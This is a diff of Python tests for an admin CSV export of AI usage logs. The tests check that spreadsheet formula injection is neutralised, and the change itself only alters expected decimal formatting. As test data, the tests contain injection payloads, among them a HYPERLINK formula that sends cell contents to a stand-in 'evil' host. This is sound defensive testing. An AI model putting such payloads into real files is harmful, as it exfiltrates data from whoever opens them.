@@ -101,7 +101,7 @@ def test_log_export_neutralises_formulas_and_keeps_numbers_plain(staff: Any, sta
     rows = csv_rows(b"".join(staff_client.get("/admin/usage/aiusagelog/export/").streaming_content))
     assert rows[1] == [
         str(log.pk), "2026-03-02T09:30:00+00:00", "'=1+2", "'" + HYPERLINK, "acme", "acme-1", "'" + DDE, "error",
-        "1000", "0", "0", "500", "0", "0.006000000000000000", "250", "'@evil", "'\t-2+3",
+        "1000", "0", "0", "500", "0", "0.006", "250", "'@evil", "'\t-2+3",
     ]  # fmt: skip
     assert len(rows) == 2
     # The admin action "Export selected logs as CSV" writes through the same helper.
@@ -421,4 +421,4 @@ def test_text_cells_are_quoted_so_a_semicolon_never_starts_a_formula_cell(staff:
     line = b"".join(staff_client.get("/admin/usage/aiusagelog/export/").streaming_content).decode().splitlines()[1]
     assert line.startswith(f'{log.pk},"')  # the id stays a plain number
     assert ',"x;=HYPERLINK(""http://evil/?""&A1)","acme","acme-1","a;@SUM(1)",' in line
-    assert line.endswith(',1000,0,0,500,0,0.006000000000000000,7,"",""')  # counts and the amount unquoted
+    assert line.endswith(',1000,0,0,500,0,0.006,7,"",""')  # counts and the amount unquoted
